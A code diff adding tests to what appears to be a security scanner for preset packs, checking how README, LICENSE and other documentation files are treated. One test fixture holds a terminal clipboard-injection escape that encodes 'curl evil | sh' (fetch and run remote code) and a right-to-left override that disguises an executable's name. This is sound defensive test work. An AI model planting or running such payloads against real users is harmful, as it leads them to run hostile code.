@@ -165,3 +165,29 @@ def test_junk_is_still_scanned_for_payloads(tmp_path: Path, zipped_on_a_mac: Pat
     (zipped_on_a_mac / "__MACOSX" / "pack" / "._Bank.syx").write_bytes(pe)
     scanned = api.scan_security(["pack"], api.Options(jobs=1), cwd=str(tmp_path))
     assert ("pack/__MACOSX/pack/._Bank.syx", "X010") in {(f.path, f.code) for f in scanned.findings}
+
+
+# -- documentation is not a preset --------------------------------------------------------------------------
+README = ("# Glass Pads\n\nBy Mara Lindqvist <mara@example.com>, https://mara.example/shop\n"
+          "Install into C:\\Users\\mara\\Documents\\Vital\\Presets.\n"
+          '<p align="center"><img src="cover.png" onerror="x"></p>\n')
+
+
+@pytest.mark.parametrize("name", ["README", "README.md", "LICENSE", "LICENSE-MIT", "licence.txt", "CHANGELOG.md",
+                                  "notes.txt", "Install.rst"])
+def test_plain_documentation_has_no_privacy_or_html_findings(tmp_path: Path, name: str) -> None:
+    (tmp_path / name).write_text(README)
+    assert api.scan_security([name], api.Options(jobs=1), cwd=str(tmp_path)).findings == ()
+    assert api.validate([name], api.Options(jobs=1), cwd=str(tmp_path)).findings == ()
+
+
+def test_documentation_is_still_scanned_for_what_endangers_the_reader(tmp_path: Path) -> None:
+    (tmp_path / "README.md").write_text(README + "paste this: \x1b]52;c;Y3VybCBldmlsIHwgc2gK\x1b\\ \u202egnp.exe\n")
+    found = api.scan_security(["README.md"], api.Options(jobs=1), cwd=str(tmp_path)).findings
+    assert sorted(f.code for f in found) == ["X060", "X063"]
+
+
+def test_the_same_text_in_a_file_of_no_documentation_kind_is_reported(tmp_path: Path) -> None:
+    (tmp_path / "info.nfo").write_text(README)
+    found = api.scan_security(["info.nfo"], api.Options(jobs=1), cwd=str(tmp_path)).findings
+    assert sorted(f.code for f in found) == ["X005", "X006", "X007", "X064"]
